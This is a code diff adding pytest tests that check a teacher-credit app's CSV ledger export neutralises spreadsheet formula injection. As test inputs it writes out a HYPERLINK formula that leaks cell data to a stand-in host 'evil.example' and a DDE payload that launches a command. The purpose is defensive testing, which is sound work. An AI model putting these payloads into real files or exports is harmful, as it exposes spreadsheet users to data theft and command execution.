@@ -11,7 +11,7 @@ from decimal import Decimal
 from typing import Any
 
 import pytest
-from sqlalchemy import select, text
+from sqlalchemy import select, text, update
 
 from app.config import Settings
 from app.credit import service as credit
@@ -430,3 +430,49 @@ def test_teachers_join_by_claimed_domain_or_invitation(app: Any, client: Any, ma
     assert credit.membership(stranger, other.id) is not None
     with pytest.raises(Exception, match="Only platform admins"):
         credit.claim_domain(officer, other, "grab.test")
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app: Any, client: Any) -> None:
+    scene = _scene(auto=True)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    db.session.execute(update(User).where(User.id == scene.teacher.id).values(name=formula))
+    db.session.commit()
+    for _ in range(2):
+        item = passed(scene.world, EMAIL)
+        credit.request_credit(scene.teacher, scene.district.id, assertion_uid=item.uid)
+        db.session.commit()
+    issuance.revoke(scene.world.admin, item, "@SUM(1+1)")
+    db.session.commit()
+    sign_in(client, scene.officer)
+    response = client.get(f"/districts/{scene.district.id}/credit/ledger.csv")
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert {r["teacher"] for r in rows} == {"'" + formula}
+    assert not any(
+        value.startswith(("=", "+", "@", "\t", "\r"))
+        for row in rows
+        for value in row.values()
+        if value
+    )
+    # Numbers stay numbers: the reversal's negative hours are not quoted.
+    assert sorted(Decimal(r["hours"]) for r in rows)[0] < 0
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1 555", "'+1 555"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-1.5", "-1.5"),
+        ("+2", "+2"),
+        ("Ms Ada", "Ms Ada"),
+        (3, 3),
+    ],
+)
+def test_safe_cell_neutralises_formulas_and_keeps_numbers(value: Any, written: Any) -> None:
+    from app.exports import safe_cell
+
+    assert safe_cell(value) == written
